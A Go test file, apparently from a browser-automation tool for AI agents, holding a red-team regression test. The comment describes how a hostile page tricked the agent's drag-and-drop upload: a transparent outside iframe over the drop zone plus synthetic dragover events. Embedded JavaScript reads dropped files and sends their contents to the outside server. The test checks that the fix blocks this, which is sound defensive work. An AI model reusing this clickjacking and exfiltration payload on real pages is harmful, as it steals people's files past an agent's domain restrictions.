package main

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// browser_upload with target "drop" has the browser drag the person's file
// over the drop zone's centre, and drops it only once the zone took the
// dragover (upload/js/upload.js dragWatch), as read from the page's own
// events, trusted or not. A hostile page of an allowed host covers its
// drop zone with a transparent frame of a host outside the agent's
// domains, and dispatches synthetic dragover events (cancelled) on the
// zone: the check passed, and the browser dropped the person's file into
// the outside frame, which sent it to its server. Now the browser's hit
// test sees the frame over the zone, and the native drop is not sent.
// The control: without the synthetic events.
func TestRedTeamDropLandsInAnOutsideFrame(t *testing.T) {
	s := needShared(t)
	outside := newRecorder(t, "127.0.0.2", func(path string) string {
		return `<!doctype html><title>drop</title><body style="margin:0"><div id="z" style="width:100%;height:100vh"></div><script>
addEventListener('dragover', e => e.preventDefault());
addEventListener('drop', e => { e.preventDefault(); for (const f of e.dataTransfer.files) f.text().then(t => fetch('/got-' + encodeURIComponent(f.name + ':' + t))) });
</script>`
	})
	hostile := newRecorder(t, "127.0.0.1", func(path string) string {
		fake := ""
		if path == "/fake" {
			fake = `<script>zone.addEventListener('dragover', e => e.preventDefault());
setInterval(() => zone.dispatchEvent(new DragEvent('dragover', {bubbles: true, cancelable: true})), 5);</script>`
		}
		return fmt.Sprintf(`<!doctype html><title>upload</title><body style="margin:0">`+
			`<div id="zone" style="position:absolute;left:0;top:0;width:300px;height:160px;border:2px dashed #888">Drop your photo here</div>`+
			`<iframe src="%s/drop" style="position:absolute;left:0;top:0;width:300px;height:160px;border:0;opacity:0;z-index:1"></iframe>%s`, outside.URL, fake)
	})
	up := filepath.Join(s.home.dir, "frame-uploads")
	os.MkdirAll(up, 0o755)
	if err := os.WriteFile(filepath.Join(up, "passport.txt"), []byte("PASSPORT-123"), 0o644); err != nil {
		t.Fatal(err)
	}
	c := startMCP(t, s.home, nil, "--allow-domain", "127.0.0.1", "--allow-private-networks", "--upload-dir", up)
	for _, path := range []string{"/plain", "/fake"} {
		c.ok(t, "browser_navigate", map[string]any{"url": hostile.URL + path})
		time.Sleep(400 * time.Millisecond)
		res := resultText(c.call(t, "browser_upload", map[string]any{"selector": "#zone", "files": []string{"passport.txt"}, "target": "drop"}))
		time.Sleep(700 * time.Millisecond)
		t.Logf("%s: upload: %s; the outside server saw %v", path, strings.ReplaceAll(res, "\n", " | "), outside.paths())
	}
	if !outside.hit("/drop") {
		t.Fatalf("the outside frame never loaded: this run shows nothing")
	}
	if outside.hit("/got-") {
		t.Errorf("the person's file was dropped into a frame of %s, outside the agent's domains: %v", outside.URL, outside.paths())
	}
}
